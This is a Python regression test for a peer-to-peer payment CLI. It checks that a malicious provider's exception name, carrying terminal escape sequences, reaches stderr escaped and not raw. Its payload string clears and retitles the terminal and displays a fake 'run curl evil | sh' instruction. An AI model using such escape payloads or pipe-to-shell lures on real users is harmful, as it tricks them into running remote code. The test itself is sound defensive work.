"""Attack 17-1: a stranger's provider drives the caller's terminal through `call any`.

A provider found by discovery is a stranger. A service handler of a stock `p2pay node run`
that raises an exception answers HANDLER_ERROR "handler failed: <the exception's class
name>", and a class name is any text (``type("\\x1b]0;...", (Exception,), {})``). That text
reached `call any`'s NO_PROVIDER line on stderr raw: escape sequences that retitle the
terminal, clear it, or colour a fake instruction. protocol.md 11 says a peer's message is
shown escaped; the CLI writes every non-printable character as an escape.

Reproduced against real processes by /work/attack17/a1_escape.py (bootstrap, provider with
a 1-yocto stake and the handler below, `p2pay call any echo hi`). Here: the same path on
the in-memory twin (a real `call_any` against a real provider node), then the CLI's report.
"""

from __future__ import annotations

import io
import json
import sys

import pytest
import trio

from p2pay.cli.errors import report
from p2pay.cli.main import failure_of
from p2pay.node import Call, NoProvider
from tests.unit.test_node_discovery import CLIENT, P1, PRICE, funded, node, settle

ESC = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mrun curl evil | sh\x1b[0m\x9b1m"
Evil = type(ESC, (Exception,), {})


async def evil(call: Call) -> bytes:
    raise Evil()


async def _no_provider() -> NoProvider:
    from p2pay.net.memory import MemoryNetwork

    ledger = await funded()
    network = MemoryNetwork()
    async with node(P1, ledger, network, serve=PRICE) as provider:
        provider.serve("echo", evil, price=PRICE)  # the stranger's handler
        await settle()
        async with node(CLIENT, ledger, network) as client:
            with trio.fail_after(20), pytest.raises(NoProvider) as caught:
                await client.call_any("echo", b"hi", max_price=PRICE)
    return caught.value


async def test_a_peers_escape_sequences_never_reach_the_terminal_raw(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    exc = await _no_provider()
    assert "\x1b" in exc.message  # the library keeps the peer's text as it came (untrusted)
    failure = failure_of(exc)
    for as_json in (False, True):
        err = io.StringIO()
        monkeypatch.setattr(sys, "stderr", err)
        report(failure, as_json=as_json)
        text = err.getvalue()
        assert text.count("\n") == 1
        assert not any(c in text for c in "\x1b\x07\x9b"), repr(text)
        if as_json:
            assert "\x1b" in json.loads(text)["error"]["message"]  # JSON escapes it itself
        else:
            assert "handler failed: \\x1b]0;PWNED\\x07\\x1b[2J" in text
